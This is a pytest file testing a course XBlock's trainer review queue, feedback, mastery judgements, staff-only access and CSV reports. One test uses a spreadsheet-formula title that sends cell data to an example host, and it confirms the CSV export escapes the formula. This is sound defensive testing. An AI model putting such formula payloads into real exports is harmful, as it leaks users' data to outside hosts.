"""Trainer review inside the block: the queue, reading, feedback, judgements and mastery,
staff-only handlers, the LMS report and the course-wide summary for the pathway."""
import re
from datetime import timedelta
from types import SimpleNamespace

import pytest
from django.utils import timezone

from jobs4all_xblocks import evidence
from jobs4all_xblocks.demo.services import anonymous_id
from jobs4all_xblocks.domain.evidence_kinds import REFLECTION, TRAINER
from tests.blocks.reflective_log_page import COURSE_KEY, answers, page, text_of  # noqa: F401  pylint: disable=unused-import

STAFF = "staff_1"


def submitted(page, student, title, outcome_ids=("LO-1.1",)):
    status, body = page.submit(student=student, title=title, outcome_ids=list(outcome_ids))
    assert status == 200
    return body["entry"]


def review(page, entry, student=STAFF, **data):
    return page.call("give_feedback", {"entry_id": entry["id"], "version": entry["version"], **data}, student=student)


def queue_titles(html):
    return re.findall(r'data-action="read" data-entry="\d+">([^<]+)<', html)


# ---------------------------------------------------------------- staff only

STAFF_HANDLERS = [("review_queue", {}), ("review_entry", {"entry_id": 1}),
                  ("give_feedback", {"entry_id": 1, "version": 1, "feedback": "x"})]


@pytest.mark.parametrize("handler, data", STAFF_HANDLERS)
def test_staff_handlers_refuse_learners_on_the_server(page, handler, data):
    entry = submitted(page, "student_2", "Private thoughts")
    data = dict(data, entry_id=entry["id"]) if "entry_id" in data else data
    status, body = page.call(handler, data, student="student_1")
    assert status == 403 and body == {"error": "Only course staff can do this."}
    assert "Private thoughts" not in str(body)
    assert evidence.reflection_entry(COURSE_KEY, page.log, entry["id"]).feedback == ()


def test_the_refusal_is_in_the_learners_language(page):
    status, body = page.call("review_queue", {}, student="student_1", lang="de")
    assert status == 403 and body["error"] == "Diese Aktion steht nur dem Kursteam zur Verfügung."


def test_the_csv_of_all_entries_is_staff_only(page):
    submitted(page, "student_2", "Private thoughts")
    status, text = page.call("report_csv", method="GET", student="student_1")
    assert status == 403 and "Private thoughts" not in text


def test_learners_do_not_see_the_review_panel(page):
    submitted(page, "student_2", "Someone else's entry")
    html = page.render(student="student_1")
    assert "Trainer review" not in html and "Someone else's entry" not in html


# ---------------------------------------------------------------- the queue

def test_staff_see_submitted_entries_newest_first_with_a_filter(page):
    first = submitted(page, "student_1", "Oldest entry")
    submitted(page, "student_2", "Middle entry")
    submitted(page, "student_3", "Newest entry")
    page.save(student="student_4", title="A draft nobody else sees")
    assert review(page, first, feedback="Thanks!")[0] == 200

    html = page.render(student=STAFF)
    assert "Trainer review" in html
    assert "2 entries await feedback (3 submitted in all)." in text_of(html)
    assert queue_titles(html) == ["Newest entry", "Middle entry"]        # the default filter: awaiting feedback
    assert "A draft nobody else sees" not in html

    status, body = page.call("review_queue", {"filter": "all"}, student=STAFF)
    assert status == 200 and (body["total"], body["awaiting"], body["shared"]) == (3, 2, 3)
    assert queue_titles(body["html"]) == ["Newest entry", "Middle entry", "Oldest entry"]
    row = re.search(r"Oldest entry<.*?</tr>", body["html"], re.S).group(0)
    assert "student_1" in row and "Feedback received" in row and "LO-1.1" in row

    status, body = page.call("review_queue", {"filter": "awaiting"}, student=STAFF, method="GET",
                             query="filter=awaiting")
    assert status == 200 and queue_titles(body["html"]) == ["Newest entry", "Middle entry"]


def test_the_queue_is_paged(page):
    for number in range(23):
        submitted(page, f"student_{number}", f"Entry {number:02d}")
    status, body = page.call("review_queue", {"filter": "awaiting"}, student=STAFF)
    assert len(queue_titles(body["html"])) == 20 and "1 to 20 of 23" in body["html"]
    assert 'data-action="page" data-offset="20"' in body["html"]
    status, body = page.call("review_queue", {"filter": "awaiting", "offset": 20}, student=STAFF)
    assert queue_titles(body["html"]) == ["Entry 02", "Entry 01", "Entry 00"]


def test_bad_queue_requests_get_400(page):
    assert page.call("review_queue", {"filter": "mine"}, student=STAFF)[0] == 400
    assert page.call("review_queue", {"offset": "first"}, student=STAFF)[0] == 400
    assert page.call("review_entry", {"entry_id": "x"}, student=STAFF)[0] == 400


# ---------------------------------------------------------------- reading and feedback

def test_staff_read_an_entry_with_its_answers_and_linked_outcomes(page):
    entry = submitted(page, "student_2", "Garage visit", outcome_ids=("LO-1.1", "LO-1.3"))
    status, body = page.call("review_entry", {"entry_id": entry["id"]}, student=STAFF)
    assert status == 200 and body["version"] == entry["version"]
    text = text_of(body["html"])
    assert "“Garage visit” by student_2" in text
    assert "What? Describe the situation." in text and answers()["what"] in text
    assert "LO-1.1" in text and "LO-1.3" in text and "The learner's mastery of this outcome now: In progress" in text


def test_drafts_are_not_readable_by_staff(page):
    _, body = page.save(student="student_2", title="Draft")
    status, response = page.call("review_entry", {"entry_id": body["entry"]["id"]}, student=STAFF)
    assert status == 404 and response["error"] == "This entry does not exist or has not been submitted."


def test_feedback_reaches_the_learner_under_the_entry(page):
    entry = submitted(page, "student_2", "Garage visit")
    status, body = review(page, entry, feedback="Good start.\nNext time, name the decision-maker.")
    assert status == 200 and body["message"] == "Your review was saved. The learner sees it under the entry."
    assert "Feedback received" in body["html"] and "No entries are awaiting feedback." in body["queue_html"]
    learner_view = page.render(student="student_2")
    block = re.search(r"Garage visit</span>.*?</details>", learner_view, re.S).group(0)
    assert "Trainer feedback" in block and "Good start.<br>Next time, name the decision-maker." in block
    assert "staff_1" in block                                             # who wrote it
    assert 'data-action="edit"' not in block                              # read-only now


def test_first_review_needs_feedback(page):
    entry = submitted(page, "student_2", "Garage visit")
    status, body = review(page, entry, judgements={"LO-1.1": "demonstrated"})
    assert status == 400 and body["problems"][0]["message"] == "Write your feedback to the learner first."
    assert page.evidence("student_2") == [("LO-1.1", REFLECTION, entry["id"], 1.0)]


def test_judging_an_unlinked_outcome_is_refused(page):
    entry = submitted(page, "student_2", "Garage visit")
    status, body = review(page, entry, feedback="ok", judgements={"LO-1.2": "demonstrated"})
    assert status == 400 and body["problems"][0]["message"] == 'The entry is not linked to the outcome "LO-1.2".'
    assert evidence.reflection_entry(COURSE_KEY, page.log, entry["id"]).status == "submitted"


def test_trainer_judgement_changes_mastery_and_the_lom_shows_it(page):
    entry = submitted(page, "student_2", "Garage visit", outcome_ids=("LO-1.1", "LO-1.2"))
    lom_row = r'<tr class="j4a-state-row j4a-state-row--(\w+)">\s*<th scope="row" class="j4a-outcome">\s*' \
              r'<span class="j4a-outcome-id">LO-1.1<'
    assert re.search(lom_row, page.workbench.render(page.lom, student="student_2")).group(1) == "in_progress"

    status, body = review(page, entry, feedback="Convincing.", judgements={"LO-1.1": "demonstrated", "LO-1.2": "not_yet"})
    assert status == 200 and body["mastery"] == {"LO-1.1": "achieved", "LO-1.2": "in_progress"}
    assert sorted(page.evidence("student_2")) == sorted([
        ("LO-1.1", REFLECTION, entry["id"], 1.0), ("LO-1.2", REFLECTION, entry["id"], 1.0),
        ("LO-1.1", TRAINER, entry["id"], 1.0), ("LO-1.2", TRAINER, entry["id"], 0.0)])
    assert re.search(lom_row, page.workbench.render(page.lom, student="student_2")).group(1) == "achieved"
    learner_view = text_of(page.render(student="student_2"))
    assert "(trainer's judgement: Demonstrated)" in learner_view
    assert "(trainer's judgement: Not yet demonstrated)" in learner_view

    # A revised judgement replaces the earlier one; withdrawing it removes the trainer evidence.
    status, body = review(page, entry, judgements={"LO-1.1": "not_yet"})
    assert status == 200 and body["mastery"]["LO-1.1"] == "in_progress"
    status, body = review(page, entry, judgements={"LO-1.1": "", "LO-1.2": ""})
    assert status == 200
    assert sorted(page.evidence("student_2")) == [("LO-1.1", REFLECTION, entry["id"], 1.0),
                                                  ("LO-1.2", REFLECTION, entry["id"], 1.0)]
    assert len(evidence.reflection_entry(COURSE_KEY, page.log, entry["id"]).feedback) == 1


def test_feedback_on_a_version_the_learner_has_since_changed_is_refused(page):
    entry = submitted(page, "student_2", "Garage visit")
    opened = page.call("review_entry", {"entry_id": entry["id"]}, student=STAFF)[1]
    _, changed = page.submit(student="student_2", entry_id=entry["id"], version=entry["version"],
                             answers=dict(answers(), what=answers(30)["what"]))
    status, body = page.call("give_feedback", {"entry_id": entry["id"], "version": opened["version"],
                                               "feedback": "Well done."}, student=STAFF)
    assert status == 409 and body["error"].startswith("The learner changed this entry after you opened it.")
    assert body["version"] == changed["entry"]["version"] and answers(30)["what"] in body["html"]
    stored = evidence.reflection_entry(COURSE_KEY, page.log, entry["id"])
    assert stored.status == "submitted" and stored.feedback == ()


# ---------------------------------------------------------------- reports

def user_state(username, student):
    return SimpleNamespace(username=username, state={"learner_key": anonymous_id(student)})


def test_report_rows_have_the_entries_and_feedback(page):
    entry = submitted(page, "student_2", "Garage visit", outcome_ids=("LO-1.1", "LO-1.2"))
    review(page, entry, feedback="Good start.", judgements={"LO-1.1": "partly"})
    submitted(page, "student_2", "Second visit")
    page.save(student="student_2", title="Unsubmitted")
    submitted(page, "student_3", "Other learner")
    block = page.block(STAFF)
    users = [user_state("alice", "student_2"), SimpleNamespace(username="bob", state={}),
             user_state("carol", "student_3")]
    rows = list(block.generate_report_data(iter(users)))
    assert [(user, row["Title"]) for user, row in rows] == [
        ("alice", "Garage visit"), ("alice", "Second visit"), ("carol", "Other learner")]
    first = rows[0][1]
    assert first["Status"] == "Feedback received" and first["Linked outcomes"] == "LO-1.1, LO-1.2"
    assert first["Answer"].startswith("What? Describe the situation.\n" + answers()["what"])
    assert first["Feedback"].endswith("Good start.") and first["Judgements"] == "LO-1.1: Partly demonstrated"
    assert list(block.generate_report_data(iter(users), limit_responses=2)) == rows[:2]


def test_the_learners_user_state_leads_the_report_to_their_entries(page):
    submitted(page, "student_2", "Garage visit")
    assert page.block("student_2").learner_key == anonymous_id("student_2")


def test_staff_download_all_submitted_entries_as_csv(page):
    submitted(page, "student_2", "Garage visit")
    page.save(student="student_3", title="Draft only")
    status, text = page.call("report_csv", method="GET", student=STAFF)
    assert status == 200
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[0] == "Learner,Anonymized user ID,Entry,Title,Status,Submitted,Linked outcomes,Answer,Feedback,Judgements"
    assert "student_2," + anonymous_id("student_2") in text and "Garage visit" in text
    assert "Draft only" not in text


def test_a_title_written_as_a_formula_stays_text_in_the_csv(page):
    submitted(page, "student_2", '=HYPERLINK("http://example.org/?"&B2,"Open")')
    _, text = page.call("report_csv", method="GET", student=STAFF)
    assert '"\'=HYPERLINK(""http://example.org/?""&B2,""Open"")"' in text


def test_submitted_reflections_summarise_a_learners_entries_in_the_course(page):
    first = submitted(page, "student_2", "First", outcome_ids=("LO-1.1",))
    second = submitted(page, "student_2", "Second", outcome_ids=("LO-1.2", "LO-1.3"))
    page.save(student="student_2", title="Draft")
    review(page, first, feedback="Nice.")
    summaries = evidence.submitted_reflections(COURSE_KEY, anonymous_id("student_2"))
    assert [(s.usage_key, s.entry_id, s.title, s.outcome_ids) for s in summaries] == [
        (page.log, second["id"], "Second", ("LO-1.2", "LO-1.3")), (page.log, first["id"], "First", ("LO-1.1",))]
    assert summaries[0].feedback_at is None and summaries[1].feedback_at is not None
    assert abs(summaries[0].submitted_at - timezone.now()) < timedelta(minutes=1)
    assert evidence.submitted_reflections(COURSE_KEY, anonymous_id("student_3")) == []
